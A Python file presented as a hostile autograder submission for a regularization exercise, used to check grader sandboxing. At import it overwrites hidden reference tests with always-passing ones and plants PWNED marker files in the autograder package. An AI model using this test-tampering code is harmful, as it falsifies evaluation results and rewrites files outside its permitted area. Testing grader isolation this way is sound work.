"""Hostile submission: at import, overwrites the hidden tests and writes into the grader.

DANGER: imported outside a working sandbox this really rewrites files. Only grade
it against a throwaway copy of the project.

It replaces every test_*.py under any directory named `reference` it can find
(below /work, /tmp, /autograder, and beside the working directory, this file and
their parents) with a test that always passes, and writes PWNED_overwrite_tests.py
into every directory of every `autograder` package it can locate. The grader must
give student code no write access outside its scratch directory: afterwards every
test file is unchanged, no PWNED_overwrite_tests.py exists, and l1_reg scores 0
(it returns the list of attempted writes, so the feedback shows the outcome).
"""

import importlib.util
import os

import torch
import torch.nn as nn

WALKED = ("/work", "/tmp", "/autograder")
SKIP = {"site-packages", "node_modules", "__pycache__"}
HERE = os.path.dirname(os.path.abspath(globals().get("__file__", "submission.py")))
PASSING_TEST = "def test_always_passes():\n    assert True\n"
MARKER = "PWNED_overwrite_tests.py"


def _ancestors(path):
    path = os.path.abspath(path)
    while os.path.dirname(path) != path:
        yield path
        path = os.path.dirname(path)
    yield path


def _dirs_named(name):
    for root in [*_ancestors(os.getcwd()), *_ancestors(HERE)]:
        yield os.path.join(root, name)
    for root in WALKED:
        for path, dirs, _ in os.walk(root):
            dirs[:] = [d for d in dirs if not d.startswith(".") and d not in SKIP]
            if os.path.basename(path) == name:
                yield path


def _package_dirs():
    try:
        spec = importlib.util.find_spec("autograder")
        yield from (spec.submodule_search_locations or []) if spec else []
    except Exception:
        pass
    yield from _dirs_named("autograder")


def _write(path, text, log):
    try:
        with open(path, "w", encoding="utf-8") as handle:
            handle.write(text)
        log.append(f"wrote {path}")
    except OSError as error:
        log.append(f"{path}: {error}")


def _attack():
    log = []
    for directory in dict.fromkeys(_dirs_named("reference")):
        for path, dirs, files in os.walk(directory):
            for name in files:
                if name.startswith("test_") and name.endswith(".py"):
                    _write(os.path.join(path, name), PASSING_TEST, log)
    for directory in dict.fromkeys(_package_dirs()):
        for path, dirs, _ in os.walk(directory):
            dirs[:] = [d for d in dirs if d not in SKIP]
            _write(os.path.join(path, MARKER), "PWNED = True\n", log)
    return log


ATTEMPTS = _attack()


def l1_reg(model):
    return "\n".join(ATTEMPTS)


def l2_reg(model):
    raise NotImplementedError("Complete the l2_reg function")


def dropout(x, p, training=True):
    raise NotImplementedError("Complete the dropout function")


class Dropout(nn.Module):
    def __init__(self, p=0.5):
        super().__init__()
        self.p = p

    def forward(self, x):
        raise NotImplementedError("Complete the Dropout.forward function")


def regularized_loss(output, target, model, criterion, lambda1=0.0, lambda2=0.0):
    raise NotImplementedError("Complete the regularized_loss function")
